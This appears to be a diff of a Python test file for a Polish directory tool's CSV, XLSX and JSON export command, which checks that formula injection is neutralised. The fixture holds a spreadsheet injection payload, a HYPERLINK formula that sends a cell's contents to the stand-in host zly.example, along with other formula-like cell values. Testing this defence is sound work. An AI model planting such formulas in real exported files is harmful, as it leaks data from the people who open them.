@@ -1,173 +1,148 @@
-"""`kooperacje eksport hsds`: the basket as an HSDS 3.0 tabular data package, validated
-against the published HSDS 3.0 data package (tests/data/hsds-3.0, offline)."""
+"""`kooperacje eksport`: CSV for Polish Excel, XLSX, JSON; formula injection neutralised."""
 
 from __future__ import annotations
 
 import csv
+import io
 import json
-from collections.abc import Callable
+import sqlite3
+import stat
+from collections.abc import Callable, Iterator
 from pathlib import Path
-from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from tests import directory
-from tests.conftest import Result, snapshot
+from kooperacje.exports import FORMULA_PREFIXES, neutralise
+from kooperacje.text import plural
+from tests import factories
+from tests.conftest import Result
 
 Run = Callable[..., Result]
-HSDS = Path(__file__).parent / "data" / "hsds-3.0"
+
+HOSTILE = '=HYPERLINK("http://zly.example/?"&A1;"Kliknij")'
 
 
 @pytest.fixture
-def ids(db_path: Path, template: Path) -> dict[str, int]:
-    return directory.build(db_path, template)
-
-
-def export(run: Run, folder: Path, gmina: str = directory.RADOMSKO_MIASTO) -> None:
-    result = run("eksport", "hsds", "--gmina", gmina, "-o", str(folder))
-    assert result.exit_code == 0, result.stderr
-    assert f"Zapisano pakiet HSDS 3.0: {folder.resolve()}" in result.stdout
-
-
-def read(folder: Path, name: str) -> list[dict[str, str]]:
-    with (folder / name).open(encoding="utf-8", newline="") as handle:
-        return list(csv.DictReader(handle))
-
-
-def official(names: set[str]) -> dict[str, Any]:
-    """The published HSDS descriptor, limited to the exported tables."""
-    descriptor: dict[str, Any] = json.loads((HSDS / "datapackage.json").read_text("utf-8"))
-    descriptor["resources"] = [r for r in descriptor["resources"] if r["name"] in names]
-    for resource in descriptor["resources"]:
-        resource["schema"]["foreignKeys"] = [
-            fk
-            for fk in resource["schema"].get("foreignKeys", [])
-            if fk["reference"]["resource"] in names
-        ]
-    return descriptor
-
-
-def test_export_validates_against_hsds_3(run: Run, tmp_path: Path, ids: dict[str, int]) -> None:
-    from frictionless import Package
-
-    folder = tmp_path / "hsds"
-    export(run, folder)
-    ours = json.loads((folder / "datapackage.json").read_text("utf-8"))
-    names = {r["name"] for r in ours["resources"]}
-    assert {
-        "organization",
-        "service",
-        "location",
-        "service_at_location",
-        "service_area",
-        "phone",
-        "contact",
-        "schedule",
-        "cost_option",
-    } <= names
-    for report in (
-        Package(str(folder / "datapackage.json")).validate(),
-        Package(official(names), basepath=str(folder)).validate(),
-    ):
-        errors = [(t.name, e.type, e.note) for t in report.tasks for e in t.errors]
-        assert report.valid, errors
-    # Every CSV has exactly HSDS's fields, in its order.
-    for resource in official(names)["resources"]:
-        with (folder / resource["path"]).open(encoding="utf-8") as handle:
-            header = next(csv.reader(handle))
-        assert header == [f["name"] for f in resource["schema"]["fields"]]
-
-
-def test_export_content(run: Run, tmp_path: Path, query: Any, ids: dict[str, int]) -> None:
-    folder = tmp_path / "hsds"
-    export(run, folder)
-    services = {r["name"]: r for r in read(folder, "services.csv")}
-    # Active basket only: powiat and voivodeship providers in, suspended and closed out.
-    assert set(services) == {
-        "Interwencja kryzysowa",
-        "Konsultacje psychologiczne dla młodzieży",
-        "Usługi opiekuńcze",
-        "Telefon zaufania dla rodzin",
-    }
-    crisis = services["Interwencja kryzysowa"]
-    (uuid,) = query("SELECT uuid FROM uslugi WHERE id = ?", (ids["interwencja"],))[0]
-    assert crisis["id"] == uuid
-    assert crisis["status"] == "active"
-    assert crisis["assured_date"] == "2026-01-10"
-    assert crisis["fees_description"] == "bezpłatnie"
-    youth = services["Konsultacje psychologiczne dla młodzieży"]
-    assert (youth["minimum_age"], youth["maximum_age"]) == ("13", "18")
-    organizations = {r["id"]: r for r in read(folder, "organizations.csv")}
-    assert organizations[crisis["organization_id"]]["alternate_name"] == "PCPR"
-    assert organizations[crisis["organization_id"]]["tax_id"] == "7722196412"
-    (schedule,) = read(folder, "schedules.csv")
-    assert (schedule["byday"], schedule["opens_at"], schedule["closes_at"]) == (
-        "MO,TU,WE,TH,FR",
-        "08:00:00",
-        "15:00:00",
+def conn(db_path: Path) -> Iterator[sqlite3.Connection]:
+    connection = factories.connect(db_path)
+    pcpr = factories.institution(
+        connection, HOSTILE, skrot="PCPR", sektor="rodzina", telefon="+48 44 715 07 95"
     )
-    areas = [r for r in read(folder, "service_areas.csv") if r["service_id"] == crisis["id"]]
-    assert [(a["extent"], a["name"]) for a in areas] == [("1012", "powiat radomszczański")]
-    locations = {r["id"]: r for r in read(folder, "locations.csv")}
-    places = {
-        services_by_id: locations[r["location_id"]]["location_type"]
-        for r in read(folder, "service_at_location.csv")
-        for services_by_id in [r["service_id"]]
-    }
-    assert places[services["Telefon zaufania dla rodzin"]["id"]] == "virtual"
-    assert places[youth["id"]] == "physical"
-    streets = {r["address_1"] for r in read(folder, "addresses.csv")}
-    assert streets == {"ul. Tkacka 5", "ul. Reymonta 3"}
-    (contact,) = read(folder, "contacts.csv")
-    assert contact["name"] == "Anna Nowak"
-    costs = {r["service_id"]: r for r in read(folder, "cost_options.csv")}
-    assert costs[crisis["id"]]["amount"] == "0"
-    assert costs[services["Usługi opiekuńcze"]["id"]]["option"] == "odpłatna"
+    factories.institution(connection, "Miejski Ośrodek Pomocy Społecznej", uwagi="@SUM(1;2)")
+    factories.person(connection, pcpr, "Anna Nowak", email="a.nowak@pcpr.pl")
+    team = factories.team(connection)
+    factories.meeting(connection, team, "2019-09-25", "Muzeum Regionalne")
+    factories.declaration(connection, team, pcpr, "2019-10-09", podpisal="-Anna Nowak")
+    factories.service(
+        connection,
+        pcpr,
+        "Poradnictwo rodzinne",
+        "wspieranie_rodziny",
+        zasieg=("1012011", "1012"),
+        grupy=("rodziny", "dzieci_mlodziez"),
+    )
+    yield connection
+    connection.close()
 
 
-def test_export_is_stable(run: Run, tmp_path: Path, ids: dict[str, int]) -> None:
-    export(run, tmp_path / "a")
-    export(run, tmp_path / "b")
-    for path in sorted((tmp_path / "a").iterdir()):
-        assert path.read_bytes() == (tmp_path / "b" / path.name).read_bytes(), path.name
+def _csv_rows(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
 
 
-def test_export_of_an_empty_basket(run: Run, tmp_path: Path, ids: dict[str, int]) -> None:
-    export(run, tmp_path / "pusty", gmina="0410033")
-    assert read(tmp_path / "pusty", "services.csv") == []
-
-
-def test_export_errors_change_nothing(
-    run: Run, tmp_path: Path, db_path: Path, ids: dict[str, int]
+def test_csv_is_what_polish_excel_opens_and_formulas_are_text(
+    run: Run, conn: sqlite3.Connection, tmp_path: Path
 ) -> None:
-    before = snapshot(db_path)
-    target = tmp_path / "plik.txt"
-    target.write_text("x")
-    result = run("eksport", "hsds", "--gmina", directory.RADOMSKO_MIASTO, "-o", str(target))
+    target = tmp_path / "instytucje.csv"
+    result = run("eksport", "instytucje", "-o", str(target))
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout == f"Zapisano 2 wiersze w pliku {target}.\n"
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    data = target.read_bytes()
+    assert b"\r\n" in data
+    rows = _csv_rows(data)
+    assert rows[0][:6] == ["Nr", "UUID", "Nazwa", "Skrót", "Sektor", "Gmina"]
+    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    assert by_name["1"]["Nazwa"] == "'" + HOSTILE
+    assert by_name["1"]["Telefon"] == "'+48 44 715 07 95"
+    assert by_name["2"]["Uwagi"] == "'@SUM(1;2)"
+    assert by_name["2"]["Nazwa"] == "Miejski Ośrodek Pomocy Społecznej"
+
+
+@pytest.mark.parametrize(
+    "name", ["instytucje", "osoby", "zespoly", "spotkania", "deklaracje", "uslugi"]
+)
+def test_every_table_exports_in_every_format(
+    run: Run, conn: sqlite3.Connection, tmp_path: Path, name: str
+) -> None:
+    from openpyxl import load_workbook
+
+    as_json = run("eksport", name, "-f", "json")
+    assert as_json.exit_code == 0, as_json.stderr
+    records = json.loads(as_json.stdout)
+    assert len(records) >= 1
+    as_csv = run("eksport", name)
+    assert as_csv.exit_code == 0
+    rows = _csv_rows(as_csv.stdout.encode("utf-8"))
+    assert len(rows) == 1 + len(records)
+    target = tmp_path / f"{name}.xlsx"
+    assert run("eksport", name, "-f", "xlsx", "-o", str(target)).exit_code == 0
+    sheet = load_workbook(target).active
+    assert sheet is not None
+    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert values[0] == rows[0]
+    # XLSX keeps every value as text exactly (no apostrophes needed, no formulas).
+    for record, row in zip(records, values[1:], strict=True):
+        assert [("" if v is None else v) for v in row] == [
+            "" if v is None else str(v) for v in record.values()
+        ]
+    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
+    assert kinds == {"s"}
+
+
+def test_services_carry_groups_and_reach(run: Run, conn: sqlite3.Connection) -> None:
+    records = json.loads(run("eksport", "uslugi", "-f", "json").stdout)
+    assert records[0]["grupy"] == "dzieci_mlodziez, rodziny"
+    assert records[0]["zasieg"] == "1012, 1012011"
+    deklaracje = _csv_rows(run("eksport", "deklaracje").stdout.encode())
+    assert "'-Anna Nowak" in deklaracje[1]
+
+
+def test_xlsx_needs_a_file(run: Run, conn: sqlite3.Connection) -> None:
+    result = run("eksport", "instytucje", "-f", "xlsx")
     assert result.exit_code == 1
-    assert "jest plikiem" in result.stderr
-    unknown = run("eksport", "hsds", "--gmina", "Atlantyda", "-o", str(tmp_path / "x"))
-    assert unknown.exit_code == 1
-    assert not (tmp_path / "x").exists()
-    assert run("eksport", "hsds", "--gmina", "1012011").exit_code == 2
-    assert snapshot(db_path) == before
+    assert "Dodaj opcję -o PLIK.xlsx" in result.stderr
 
 
-def test_every_row_is_a_valid_hsds_object(run: Run, tmp_path: Path, ids: dict[str, int]) -> None:
-    # The per-table JSON Schemas of HSDS 3.0: required fields, uuid/email/uri formats, enums.
-    from jsonschema import Draft202012Validator, FormatChecker
+def test_unknown_table_and_format_are_usage_errors(run: Run, conn: sqlite3.Connection) -> None:
+    assert run("eksport", "klienci").exit_code == 2
+    result = run("eksport", "instytucje", "-f", "pdf")
+    assert result.exit_code == 2
+    assert result.stderr.startswith("Błąd: ")
 
-    folder = tmp_path / "hsds"
-    export(run, folder)
-    descriptor = json.loads((folder / "datapackage.json").read_text("utf-8"))
-    checked = 0
-    for resource in descriptor["resources"]:
-        schema = json.loads((HSDS / f"{resource['name']}.json").read_text("utf-8"))
-        validator = Draft202012Validator(schema, format_checker=FormatChecker())
-        numbers = {k for k, v in schema["properties"].items() if v.get("type") == "number"}
-        for row in read(folder, resource["path"]):
-            item = {k: float(v) if k in numbers else v for k, v in row.items() if v != ""}
-            errors = [e.message for e in validator.iter_errors(item)]
-            assert not errors, (resource["name"], item, errors)
-            checked += 1
-    assert checked > 20
+
+def test_unwritable_target(run: Run, conn: sqlite3.Connection, tmp_path: Path) -> None:
+    result = run("eksport", "instytucje", "-o", str(tmp_path))
+    assert result.exit_code == 1
+    assert "nie można zapisać pliku" in result.stderr
+
+
+@given(st.text(max_size=30))
+def test_neutralised_cells_never_start_like_a_formula(text: str) -> None:
+    safe = neutralise(text)
+    assert not safe.startswith(FORMULA_PREFIXES)
+    assert safe in (text, "'" + text)
+
+
+def test_plural() -> None:
+    assert [plural(n, "wiersz", "wiersze", "wierszy") for n in (0, 1, 2, 5, 12, 22, 25)] == [
+        "0 wierszy",
+        "1 wiersz",
+        "2 wiersze",
+        "5 wierszy",
+        "12 wierszy",
+        "22 wiersze",
+        "25 wierszy",
+    ]
